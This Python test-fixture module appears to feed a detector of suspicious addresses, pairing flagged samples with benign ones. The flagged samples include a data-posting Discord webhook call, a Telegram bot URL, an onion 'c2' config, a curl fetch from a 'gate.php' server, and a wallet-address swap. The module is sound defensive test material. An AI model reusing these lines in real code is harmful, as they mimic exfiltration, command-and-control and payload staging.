"""Addresses in text and in programs; those that are secrets are put together here, and lead nowhere."""

from __future__ import annotations

from collections.abc import Iterator, Mapping

CHANNEL = "https://discord.com/api/" + "webhooks/123456789012345678/" + "AbC0dEf1" * 8
BOT = "https://api.telegram.org/" + "bot1234567890:" + "AA" + "x9Z_-" * 6 + "abc" + "/sendMessage"
ONION = "a2b3c4d5" * 7 + ".onion"
SERVER = "http://198.51.100.23:8080/gate.php"


def program(text: str) -> bytes:
    """A Windows program with one wide string in it, at an odd place."""
    return b"MZ" + bytes(61) + text.encode("utf-16-le") + b"\0\0" + b"\x90" * 64


def flags() -> Iterator[tuple[str, Mapping[str, bytes]]]:
    yield "webhook--a chat as a server", {"index.js": f"fetch({CHANNEL!r}, {{method: 'POST'}});".encode()}
    yield "webhook--a bot", {"main.py": f"URL = {BOT!r}\n".encode()}
    yield "onion--a hidden service", {"cfg.json": f'{{"c2": "http://{ONION}/q"}}'.encode()}
    yield "raw-address--in a script", {"a.sh": f"curl -s {SERVER} -o /tmp/q\n".encode()}
    yield "raw-address--wide in a program", {"tool.exe": program(SERVER)}
    yield "public-service--a tunnel", {"b.js": b"const host = 'https://ab12.ngrok.io/in';"}
    yield "wallet--with a right checksum", {"c.js": b"replaceWith('1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2');"}


def passes() -> Iterator[tuple[str, Mapping[str, bytes]]]:
    yield "names of schemas", {"a.svg": b'<svg xmlns="http://www.w3.org/2000/svg" version="1.1"/>'}
    yield "versions are no addresses", {"v.py": b"VERSION = '10.4.0.0'\nOID = '2.5.29.35'\nOTHER = '4.8.15.16'\n"}
    yield "a wallet whose checksum is wrong", {"c.js": b"const id = '1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN3';"}
    yield "an ordinary server", {"d.js": b"fetch('https://api.acme.example/v1/items?token=abc');"}
    yield "its own machine", {"e.js": b"listen('http://127.0.0.1:3000/'); const gw = '192.168.1.254';"}
    yield "nothing at all", {"empty.txt": b""}
